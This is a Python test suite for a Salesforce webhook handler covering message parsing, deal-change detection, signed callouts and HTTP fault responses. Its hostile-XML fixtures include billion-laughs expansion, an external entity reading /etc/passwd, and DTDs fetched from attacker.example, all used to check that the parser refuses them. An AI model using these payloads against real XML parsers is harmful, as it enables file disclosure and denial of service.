"""Salesforce: Outbound Messages as Salesforce sends them, signed callouts, what changed, and
the HTTP answers (the acknowledgement, faults, hostile XML)."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func
from sqlmodel import select
from starlette.applications import Starlette

from bot.app.salesforce_webhook import ACK, SalesforceWebhook
from bot.app.webhooks import DealWebhooks
from bot.core import deals
from bot.core.deals import salesforce
from bot.core.deals.last_known import KEEP_SEEN, LastKnown
from bot.core.deals.model import PayloadError
from bot.core.deals.rules import Moment, route
from bot.core.deals.salesforce import Notification, changes, parse_outbound_message
from bot.core.prompts import DealChange, MomentKey
from bot.runtime import Runtime
from bot.runtime.clock import ManualClock
from bot.runtime.settings import DEAL_CHANGES, SettingsError, load_settings
from bot.storage import Database
from bot.storage.models import DealState
from slack_emulator.delivery import slack_signature  # an independent implementation
from tests.support.deals import (
    KEY,
    LONDON,
    SECRET,
    Directory,
    deals_runtime,
    moment_of,
    nudged_moment,
    planned_for,
    stored_events,
)
from tests.support.salesforce import (
    ACCOUNT,
    BILLION_LAUGHS,
    HEADERS,
    NEGOTIATION,
    OPP,
    ORG,
    PERCEPTION,
    lost_a_day_later,
    message,
    owner,
)
from tests.support.strategies import any_text, fuzz, huge_text, json_values

URL = "/webhooks/salesforce"

# --------------------------------------------------------------------------- parsing


def test_sample_a_parses_with_every_field_we_read() -> None:
    parsed = parse_outbound_message(NEGOTIATION.encode())
    assert (parsed.organization_id, parsed.action_id, parsed.ignored) == (
        ORG,
        "04k5w000000TSwMAAW",
        0,
    )
    [n] = parsed.notifications
    opp = n.opportunity
    assert n.id == "04l5w00005286hAAAQ"
    assert (opp.id, opp.name, opp.stage, opp.close_date, opp.amount) == (
        OPP,
        "Backpackers, Inc. (Sample)",
        "Negotiation/Review",
        "2020-07-11",
        "45000",  # 45000.0 as a plain number
    )
    assert (opp.is_closed, opp.is_won, opp.owner_email) == (False, False, None)
    assert opp.modified_at == datetime(2020, 5, 9, 3, 4, 32, tzinfo=UTC)
    assert opp.created_at == datetime(2020, 5, 8, 13, 40, 22, tzinfo=UTC)


def test_sample_b_with_a_nil_session_id_and_seven_fields() -> None:
    parsed = parse_outbound_message(PERCEPTION)
    [n] = parsed.notifications
    assert parsed.organization_id == "00D7F00000107XsUAI"
    assert (n.opportunity.stage, n.opportunity.is_closed, n.opportunity.modified_at) == (
        "Perception Analysis",
        None,  # not selected: unknown, not false
        None,
    )
    assert "IsClosed" not in n.opportunity.sent and "StageName" in n.opportunity.sent


def test_other_objects_are_ignored() -> None:
    parsed = parse_outbound_message(ACCOUNT)
    assert (parsed.notifications, parsed.ignored) == ((), 1)


def test_nil_fields_are_sent_empty_and_owner_email_names_the_rep() -> None:
    body = message(extra=owner(), Amount="", CloseDate="x").replace(
        b"<sf:Amount></sf:Amount>", b'<sf:Amount xsi:nil="true"/>'
    )
    [n] = parse_outbound_message(body).notifications
    assert (n.opportunity.amount, n.opportunity.owner_email) == (None, "ana@example.com")
    assert "Amount" in n.opportunity.sent
    [bad] = parse_outbound_message(message(extra=owner("not an address"))).notifications
    assert bad.opportunity.owner_email is None


def test_many_notifications_in_one_message() -> None:
    one = NEGOTIATION.split("<Notification>")[1].split("</Notification>")[0]
    many = "".join(
        f"<Notification>{one.replace('04l5w00005286hAAAQ', f'04l5w00005286h{i:03d}A')}"
        "</Notification>"
        for i in range(100)
    )
    body = NEGOTIATION.replace(f"<Notification>{one}</Notification>", many)
    assert len(parse_outbound_message(body.encode()).notifications) == 100
    extra = f"<Notification>{one}</Notification></notifications>"
    with pytest.raises(PayloadError) as caught:
        parse_outbound_message(body.replace("</notifications>", extra).encode())
    assert caught.value.field == "Notification"


def with_dtd(dtd: str, name_value: str) -> bytes:
    """Sample (a) with a DTD, and the opportunity's name replaced by ``name_value``."""
    body = (
        message()
        .decode()
        .replace(
            '<?xml version="1.0" encoding="UTF-8"?>',
            f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE soapenv:Envelope [{dtd}]>',
        )
    )
    return body.replace("Backpackers, Inc. (Sample)", name_value).encode()


HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "billion laughs in an envelope": with_dtd(
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">', "&b;"
    ),
    "external entity": with_dtd('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
    "external DTD": with_dtd("", "x").replace(
        b"[]>", b'SYSTEM "http://attacker.example/evil.dtd">'
    ),
    "a DTD alone": with_dtd("", "x"),
    "parameter entity": with_dtd('<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;', "x"),
    "malformed": message()[:-40],
    "not XML": b"OrganizationId=00D5w000004qGTOEA2",
    "empty": b"",
    "not SOAP": b'<notifications xmlns="http://soap.sforce.com/2005/09/outbound"/>',
    "SOAP without notifications": (
        b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body/></e:Envelope>'
    ),
    "UTF-7": message().replace(b'encoding="UTF-8"', b'encoding="UTF-7"'),
}


@pytest.mark.parametrize("body", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_and_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(PayloadError):
        parse_outbound_message(body)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (message(notification=""), "Notification[0].Id"),
        (message(notification="04l-bad"), "Notification[0].Id"),
        (
            message().replace(b"<sf:Id>0065w000023STAmAAO</sf:Id>", b""),
            "Notification[0].sObject.Id",
        ),
        (message(IsClosed="perhaps"), "Notification[0].sObject.IsClosed"),
        (message(modified="yesterday"), "Notification[0].sObject.SystemModstamp"),
        (message(StageName="x" * 301), "Notification[0].sObject.StageName"),
        (message(org=""), "OrganizationId"),
        (message(org="not-an-org"), "OrganizationId"),
        (message(action="bad!"), "ActionId"),
    ],
)
def test_bad_fields_are_named(body: bytes, field: str) -> None:
    with pytest.raises(PayloadError) as caught:
        parse_outbound_message(body)
    assert caught.value.field == field


def test_the_org_is_compared_on_its_15_character_form() -> None:
    assert salesforce.same_org("00D5w000004qGTO", ORG)
    assert salesforce.same_org(ORG, "00D5w000004qGTO")
    assert not salesforce.same_org(ORG, "00D7F00000107XsUAI")
    assert not salesforce.same_org(ORG, "00d5w000004qgtoEA2")  # 15-char ids are case-sensitive
    assert salesforce.id18("0065w000023STAm") == OPP


def test_the_settings_know_every_deal_change() -> None:
    assert {c.value for c in DealChange} == DEAL_CHANGES


@pytest.mark.parametrize("org", [ORG, "00D5w000004qGTO", "00D7F00000107XsUAI", " 00D7F00000107Xs "])
def test_the_org_setting_takes_either_form(monkeypatch: pytest.MonkeyPatch, org: str) -> None:
    monkeypatch.setenv("TRUSTBOT_SALESFORCE_ORG_ID", org)
    configured = load_settings().TRUSTBOT_SALESFORCE_ORG_ID
    assert configured == org.strip()


@pytest.mark.parametrize(
    ("org", "says"),
    [
        ("00D5w000004qGTOEA3", "do not match"),  # a typo in the case-safe suffix
        ("00d5w000004qGTOEA2", "00D"),
        ("0065w000023STAmAAO", "00D"),  # an opportunity, not an org
        ("00D5w000004qGT", "15- or 18-character"),
        ("00D5w000004qGTO-A2", "15- or 18-character"),
    ],
)
def test_a_bad_org_setting_stops_start_up_with_one_line(
    monkeypatch: pytest.MonkeyPatch, org: str, says: str
) -> None:
    monkeypatch.setenv("TRUSTBOT_SALESFORCE_ORG_ID", org)
    with pytest.raises(SettingsError) as caught:
        load_settings()
    message = str(caught.value)
    assert message.startswith("TRUSTBOT_SALESFORCE_ORG_ID is malformed") and says in message
    assert "\n" not in message


def test_actions_map_rules_to_changes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(
        "TRUSTBOT_SALESFORCE_ACTIONS",
        "04k5w000000TSwMAAW=stage_changed, 04k7F0000008V3h = close_date_changed,",
    )
    assert load_settings().TRUSTBOT_SALESFORCE_ACTIONS == {
        "04k5w000000TSwM": "stage_changed",
        "04k7F0000008V3h": "close_date_changed",
    }
    for bad in ("04k5w000000TSwM=moved", "nope=won", "04k5w000000TSwM"):
        monkeypatch.setenv("TRUSTBOT_SALESFORCE_ACTIONS", bad)
        with pytest.raises(SettingsError, match="TRUSTBOT_SALESFORCE_ACTIONS is malformed"):
            load_settings()


# --------------------------------------------------------------------------- what changed

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def note(body: bytes) -> Notification:
    [n] = parse_outbound_message(body).notifications
    return n


def test_the_first_news_of_a_deal_is_remembered_not_guessed() -> None:
    updates, state = changes(note(message()), None, action=None, now=NOW)
    assert updates == []
    assert state is not None
    assert (state.stage, state.amount, state.is_closed, state.seen) == (
        "Negotiation/Review",
        "45000",
        False,
        ("04l5w00005286hAAAQ",),
    )


def test_a_new_deal_is_created_and_a_closed_one_is_its_outcome() -> None:
    just_created = message(CreatedDate="2020-05-09T03:04:10.000Z")
    [created], _ = changes(note(just_created), None, action=None, now=NOW)
    assert (created.change, created.to_value) == (DealChange.CREATED, "Negotiation/Review")
    [lost], _ = changes(note(message("Closed Lost", closed=True)), None, action=None, now=NOW)
    assert (lost.change, lost.from_value, lost.to_value) == (DealChange.LOST, None, "Closed Lost")


def test_changes_are_the_difference_from_the_last_known_state() -> None:
    _, known = changes(note(message("Proposal/Price Quote")), None, action=None, now=NOW)
    later = message(
        notification="04l5w00005286hBBBQ",
        modified="2020-05-10T09:00:00.000Z",
        CloseDate="2020-08-31",
        Amount="40000.00",
        extra=owner() + "     <sf:Discount__c>15.0</sf:Discount__c>\n",
    )
    updates, state = changes(note(later), known, action=None, now=NOW)
    got = {u.change: (u.from_value, u.to_value) for u in updates}
    assert got == {
        DealChange.STAGE_CHANGED: ("Proposal/Price Quote", "Negotiation/Review"),
        DealChange.CLOSE_DATE_CHANGED: ("2020-07-11", "2020-08-31"),
        DealChange.AMOUNT_CHANGED: ("45000", "40000"),
        DealChange.DISCOUNT_REQUESTED: (None, "15%"),
    }
    stage = next(u for u in updates if u.change is DealChange.STAGE_CHANGED)
    assert stage.event_id == "04l5w00005286hBBBQ:stage_changed"
    assert (stage.deal_id, stage.deal_name, stage.rep_email, stage.rep_user_id) == (
        OPP,
        "Backpackers, Inc. (Sample)",
        "ana@example.com",
        None,
    )
    assert stage.occurred_at == datetime(2020, 5, 10, 9, 0, tzinfo=UTC)
    assert moment_of(stage) is Moment.NEGOTIATION
    assert state is not None and state.seen[-1] == "04l5w00005286hBBBQ"


def test_the_crm_flags_make_won_or_lost_whatever_the_label() -> None:
    _, known = changes(note(message()), None, action=None, now=NOW)
    [lost], _ = changes(
        note(message("Closed Admin", closed=True, notification="04l5w00005286hCCCQ")),
        known,
        action=None,
        now=NOW,
    )
    assert (lost.change, lost.from_value, lost.to_value) == (
        DealChange.LOST,
        "Negotiation/Review",
        "Closed Admin",
    )
    [won], _ = changes(
        note(message("Current Partner", closed=True, won=True, notification="04l5w00005286hDDDQ")),
        known,
        action=None,
        now=NOW,
    )
    assert won.change is DealChange.WON
    [no_decision], _ = changes(
        note(message("Closed Lost – No Decision", closed=True, notification="04l5w0000528XXXXXQ")),
        known,
        action=None,
        now=NOW,
    )
    assert no_decision.change is DealChange.LOST
    assert route(no_decision.change, None, no_decision.to_value).moment is Moment.NO_DECISION


def test_a_repeat_an_unchanged_and_a_stale_notification_mean_nothing() -> None:
    _, known = changes(note(message()), None, action=None, now=NOW)
    assert changes(note(message()), known, action=None, now=NOW) == ([], None)
    unchanged, _ = changes(
        note(message(notification="04l5w00005286hEEEQ")), known, action=None, now=NOW
    )
    assert unchanged == []
    older = message(
        "Prospecting", notification="04l5w00005286hFFFQ", modified="2020-05-01T00:00:00Z"
    )
    updates, state = changes(note(older), known, action=None, now=NOW)
    assert updates == [] and state is not None
    assert state.stage == "Negotiation/Review" and "04l5w00005286hFFFQ" in state.seen


def test_only_the_latest_notification_ids_are_kept() -> None:
    state = LastKnown()
    for i in range(KEEP_SEEN + 5):
        state = state.remember(f"n{i}")
    assert len(state.seen) == KEEP_SEEN and state.seen[-1] == f"n{KEEP_SEEN + 4}"


def test_a_reopened_deal_is_a_stage_change_back_from_its_outcome() -> None:
    _, closed = changes(note(message("Closed Lost", closed=True)), None, action=None, now=NOW)
    assert closed is not None
    known = replace(closed, seen=())
    [reopened], _ = changes(note(message("Qualification")), known, action=None, now=NOW)
    assert reopened.change is DealChange.STAGE_CHANGED
    assert moment_of(reopened) is Moment.REOPENED


def test_a_mapped_action_says_what_changed_also_the_first_time() -> None:
    [first], _ = changes(note(message()), None, action=DealChange.STAGE_CHANGED, now=NOW)
    assert (first.change, first.from_value, first.to_value) == (
        DealChange.STAGE_CHANGED,
        None,
        "Negotiation/Review",
    )
    known = LastKnown(close_date="2020-06-30", stage="Negotiation/Review")
    [pushed], _ = changes(note(message()), known, action=DealChange.CLOSE_DATE_CHANGED, now=NOW)
    assert (pushed.change, pushed.from_value, pushed.to_value) == (
        DealChange.CLOSE_DATE_CHANGED,
        "2020-06-30",
        "2020-07-11",
    )
    [closed], _ = changes(
        note(message("Closed Won", closed=True, won=True)),
        known,
        action=DealChange.STAGE_CHANGED,
        now=NOW,
    )
    assert closed.change is DealChange.WON


def test_a_callout_with_the_triggers_old_values() -> None:
    body = {
        "org_id": ORG,
        "opportunities": [
            {
                "attributes": {"type": "Opportunity", "url": f"/services/data/v60.0/{OPP}"},
                "Id": OPP,
                "Name": "Backpackers",
                "StageName": "Negotiation/Review",
                "Amount": 45000.00,
                "IsClosed": False,
                "IsWon": False,
                "LastModifiedDate": "2020-05-09T03:04:32.000+0000",
                "Owner": {"attributes": {"type": "User"}, "Email": "ana@example.com"},
            }
        ],
        "previous": [{"Id": OPP, "StageName": "Proposal/Price Quote", "Amount": 45000}],
    }
    parsed = salesforce.parse_callout(json.dumps(body).encode())
    [n] = parsed.notifications
    assert n.id == f"{OPP}@2020-05-09T03:04:32.000+0000"
    assert n.opportunity.owner_email == "ana@example.com"
    [update], _ = changes(n, None, action=None, now=NOW)
    assert (update.change, update.from_value, update.to_value) == (
        DealChange.STAGE_CHANGED,
        "Proposal/Price Quote",
        "Negotiation/Review",
    )


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (b"[]", "body"),
        (b"{", "body"),
        (b'{"opportunities": []}', "opportunities"),
        (b'{"opportunities": [{"Id": "006"}]}', "opportunities[0].Id"),
        (b'{"opportunities": [{"Id": "0065w000023STAmAAO"}]}', "opportunities[0].LastModifiedDate"),
        (b'{"opportunities": [{"Id": "0065w000023STAmAAO", "Amount": NaN}]}', "body"),
        (
            b'{"opportunities": [{"Id": "0065w000023STAmAAO", "Amount": [1]}]}',
            "opportunities[0].Amount",
        ),
        (b'{"org_id": 5, "opportunities": [1]}', "org_id"),
    ],
)
def test_bad_callouts_name_the_field(body: bytes, field: str) -> None:
    with pytest.raises(PayloadError) as caught:
        salesforce.parse_callout(body)
    assert caught.value.field == field


# --------------------------------------------------------------------------- over HTTP


async def salesforce_runtime(db: Database, clock: ManualClock, **settings: Any) -> Runtime:
    base = await deals_runtime(db, clock)
    values = {
        "TRUSTBOT_PSEUDONYM_KEY": KEY,
        "TRUSTBOT_WEBHOOK_SECRET": SECRET,
        "TRUSTBOT_SALESFORCE_ORG_ID": ORG,
        **settings,
    }
    return replace(base, settings=load_settings(**{k: v for k, v in values.items() if v}))


@pytest.fixture
async def runtime(db: Database, clock: ManualClock) -> Runtime:
    return await salesforce_runtime(db, clock)


@pytest.fixture
async def hooks(runtime: Runtime) -> AsyncIterator[DealWebhooks]:
    directory = Directory({"ana@example.com": LONDON})
    webhooks = DealWebhooks(
        runtime, workspace=deals.single_workspace(runtime), resolve_email=directory
    )
    yield webhooks
    await webhooks.aclose()


def client_for(webhooks: DealWebhooks) -> httpx.AsyncClient:
    app = Starlette(routes=SalesforceWebhook(webhooks).routes())
    transport = httpx.ASGITransport(app=app)
    return httpx.AsyncClient(transport=transport, base_url="https://trustbot.example.com")


@pytest.fixture
async def client(hooks: DealWebhooks) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(hooks) as c:
        yield c


async def post(client: httpx.AsyncClient, body: bytes) -> httpx.Response:
    return await client.post(URL, content=body, headers=HEADERS)


async def states(rt: Runtime) -> int:
    async with rt.db.session() as s:
        return int((await s.exec(select(func.count()).select_from(DealState))).one())


def acked(reply: httpx.Response) -> bool:
    return (
        reply.status_code == 200
        and reply.headers["content-type"].startswith("text/xml")
        and reply.text == ACK
    )


def faulted(reply: httpx.Response, status: int, code: str = "soapenv:Client") -> bool:
    return (
        reply.status_code == status
        and reply.headers["content-type"].startswith("text/xml")
        and f"<faultcode>{code}</faultcode>" in reply.text
    )


async def test_an_outbound_message_is_stored_and_acknowledged(
    client: httpx.AsyncClient, hooks: DealWebhooks, runtime: Runtime
) -> None:
    # the first news of the deal (at proposal): remembered, acknowledged, no update
    first = await post(client, message("Proposal/Price Quote", extra=owner()))
    assert acked(first)
    assert await stored_events(runtime) == [] and await states(runtime) == 1
    # into negotiation: a stage change, whose rep is found by the owner's e-mail
    reply = await post(
        client,
        message(notification="04l5w00005286hBBBQ", modified="2020-05-10T09:00:00Z", extra=owner()),
    )
    assert acked(reply)
    [event] = await stored_events(runtime)
    assert (event.source, event.event_id, event.deal_id, event.change) == (
        "salesforce",
        "04l5w00005286hBBBQ:stage_changed",
        OPP,
        "stage_changed",
    )
    assert (event.from_value, event.to_value, event.rep_email) == (
        "Proposal/Price Quote",
        "Negotiation/Review",
        "ana@example.com",
    )
    assert moment_of(event) is Moment.NEGOTIATION
    assert await nudged_moment(runtime, hooks) is MomentKey.NEGOTIATION  # its own questions
    await planned_for(runtime, LONDON)


async def test_closed_lost_is_the_lost_moment(
    client: httpx.AsyncClient, hooks: DealWebhooks, runtime: Runtime
) -> None:
    assert acked(await post(client, message(extra=owner())))
    assert acked(await post(client, lost_a_day_later("Closed Lost – No Decision")))
    [event] = await stored_events(runtime)
    assert (event.change, event.from_value, event.to_value) == (
        "lost",
        "Negotiation/Review",
        "Closed Lost – No Decision",
    )
    assert moment_of(event) is Moment.NO_DECISION
    assert await nudged_moment(runtime, hooks) is MomentKey.NO_DECISION


async def test_a_redelivery_is_acknowledged_and_stored_once(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    assert acked(await post(client, message("Closed Won", closed=True, won=True)))
    assert acked(await post(client, message("Closed Won", closed=True, won=True)))
    [event] = await stored_events(runtime)
    assert event.change == "won"


async def test_a_message_about_other_objects_is_acknowledged(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    assert acked(await post(client, ACCOUNT))
    assert await stored_events(runtime) == [] and await states(runtime) == 0


async def test_another_org_is_refused_with_a_fault(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    reply = await post(client, PERCEPTION)  # org 00D7F00000107XsUAI
    assert faulted(reply, 403)
    assert "OrganizationId" in reply.text
    assert await stored_events(runtime) == [] and await states(runtime) == 0


async def test_the_org_may_be_configured_in_its_15_character_form(
    db: Database, clock: ManualClock
) -> None:
    rt = await salesforce_runtime(db, clock, TRUSTBOT_SALESFORCE_ORG_ID="00D5w000004qGTO")
    webhooks = DealWebhooks(rt, workspace=deals.single_workspace(rt), resolve_email=Directory({}))
    async with client_for(webhooks) as http:
        assert acked(await post(http, message("Closed Won", closed=True, won=True)))
    await webhooks.aclose()


async def test_without_an_org_setting_outbound_messages_are_refused(
    db: Database, clock: ManualClock
) -> None:
    rt = await salesforce_runtime(db, clock, TRUSTBOT_SALESFORCE_ORG_ID=None)
    webhooks = DealWebhooks(rt, workspace=deals.single_workspace(rt), resolve_email=Directory({}))
    async with client_for(webhooks) as http:
        reply = await post(http, message("Closed Won", closed=True, won=True))
    await webhooks.aclose()
    assert faulted(reply, 503, "soapenv:Server") and "TRUSTBOT_SALESFORCE_ORG_ID" in reply.text
    assert await stored_events(rt) == []


@pytest.mark.parametrize("body", list(HOSTILE.values()), ids=list(HOSTILE))
async def test_hostile_xml_is_400_and_stores_nothing(
    client: httpx.AsyncClient, runtime: Runtime, body: bytes
) -> None:
    reply = await post(client, body)
    assert faulted(reply, 400)
    assert await stored_events(runtime) == [] and await states(runtime) == 0


async def test_a_body_over_1_mib_is_413(client: httpx.AsyncClient, runtime: Runtime) -> None:
    padding = "     <sf:Description>" + "x" * (1024 * 1024) + "</sf:Description>\n"
    reply = await post(client, message(extra=padding))
    assert faulted(reply, 413)
    assert await stored_events(runtime) == []


async def test_a_bad_field_is_400_naming_it(client: httpx.AsyncClient, runtime: Runtime) -> None:
    reply = await post(client, message(notification="04l-bad"))
    assert faulted(reply, 400) and "Notification[0].Id" in reply.text


async def test_an_action_mapped_to_a_change_is_that_change(
    db: Database, clock: ManualClock
) -> None:
    rt = await salesforce_runtime(
        db, clock, TRUSTBOT_SALESFORCE_ACTIONS="04k5w000000TSwM=stage_changed"
    )
    webhooks = DealWebhooks(rt, workspace=deals.single_workspace(rt), resolve_email=Directory({}))
    async with client_for(webhooks) as http:
        assert acked(await post(http, message()))  # the first news, but the rule says "stage"
    await webhooks.aclose()
    [event] = await stored_events(rt)
    assert (event.change, event.to_value) == ("stage_changed", "Negotiation/Review")


def signed(clock: ManualClock, body: bytes, secret: str = SECRET) -> dict[str, str]:
    timestamp = str(int(clock.time()))
    return {
        "Content-Type": "application/json",
        "X-Trustbot-Request-Timestamp": timestamp,
        "X-Trustbot-Signature": slack_signature(secret, timestamp, body),
    }


def callout(stage: str, stamp: str, org: str = ORG) -> bytes:
    record = {"Id": OPP, "Name": "Backpackers", "StageName": stage, "LastModifiedDate": stamp}
    return json.dumps({"org_id": org, "opportunities": [record]}).encode()


async def test_a_signed_callout_is_stored_like_a_message(
    client: httpx.AsyncClient, runtime: Runtime, clock: ManualClock
) -> None:
    first = callout("Proposal/Price Quote", "2020-05-09T03:04:32.000+0000")
    reply = await client.post(URL, content=first, headers=signed(clock, first))
    assert reply.json() == {"accepted": False, "ignored": 1}
    moved = callout("Negotiation/Review", "2020-05-10T03:04:32.000+0000")
    reply = await client.post(URL, content=moved, headers=signed(clock, moved))
    assert reply.status_code == 202
    assert reply.json() == {
        "accepted": True,
        "ids": reply.json()["ids"],
        "duplicates": 0,
        "ignored": 0,
    }
    again = await client.post(URL, content=moved, headers=signed(clock, moved))
    assert again.json() == {"accepted": False, "ignored": 1}  # seen: no update at all
    [event] = await stored_events(runtime)
    assert (event.change, event.from_value, event.to_value) == (
        "stage_changed",
        "Proposal/Price Quote",
        "Negotiation/Review",
    )


async def test_a_callout_needs_the_signature_and_the_org(
    client: httpx.AsyncClient, runtime: Runtime, clock: ManualClock
) -> None:
    body = callout("Closed Won", "2020-05-09T03:04:32.000+0000")
    unsigned = await client.post(URL, content=body, headers={"Content-Type": "application/json"})
    assert unsigned.status_code == 401 and "error" in unsigned.json()
    forged = await client.post(URL, content=body, headers=signed(clock, body, secret="guess"))
    assert forged.status_code == 401
    other = callout("Closed Won", "2020-05-09T03:04:32.000+0000", org="00D7F00000107XsUAI")
    reply = await client.post(URL, content=other, headers=signed(clock, other))
    assert (reply.status_code, reply.json()["field"]) == (403, "org_id")
    bad = b'{"opportunities": []}'
    assert (await client.post(URL, content=bad, headers=signed(clock, bad))).status_code == 400
    assert await stored_events(runtime) == [] and await states(runtime) == 0


# --------------------------------------------------------------------------- any input


def parsed_or_refused(parse: Any, body: bytes) -> None:
    """A body parses, or is refused with a PayloadError; never another exception. What parses
    gives updates without error."""
    try:
        result = parse(body)
    except PayloadError as error:
        assert error.field and "\n" not in error.field
        return
    for n in result.notifications:
        changes(n, None, action=None, now=NOW)
        changes(n, LastKnown(stage="Closed Won", amount="x", is_closed=True), action=None, now=NOW)


@fuzz(300)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_any_bytes_parse_or_are_refused(body: bytes) -> None:
    parsed_or_refused(parse_outbound_message, body)
    parsed_or_refused(salesforce.parse_callout, body)


@fuzz(300)
@given(
    field=st.sampled_from(
        ["StageName", "Amount", "CloseDate", "IsClosed", "IsWon", "LastModifiedDate", "Name"]
    ),
    value=any_text | huge_text,
)
def test_any_field_value_parses_or_names_the_field(field: str, value: str) -> None:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    parsed_or_refused(parse_outbound_message, message(**{field: escaped}))


@fuzz(300)
@given(at=st.integers(0, len(NEGOTIATION)), cut=st.integers(0, 40), insert=any_text)
def test_a_mangled_envelope_parses_or_is_refused(at: int, cut: int, insert: str) -> None:
    mangled = NEGOTIATION[:at] + insert + NEGOTIATION[at + cut :]
    parsed_or_refused(parse_outbound_message, mangled.encode("utf-8", "surrogatepass"))


@fuzz(300)
@given(record=st.dictionaries(st.sampled_from(sorted(salesforce.READ)), json_values, max_size=8))
def test_any_callout_record_parses_or_names_the_field(record: dict[str, Any]) -> None:
    body = {"org_id": ORG, "opportunities": [{"Id": OPP, **record}], "previous": [record]}
    parsed_or_refused(salesforce.parse_callout, json.dumps(body).encode())
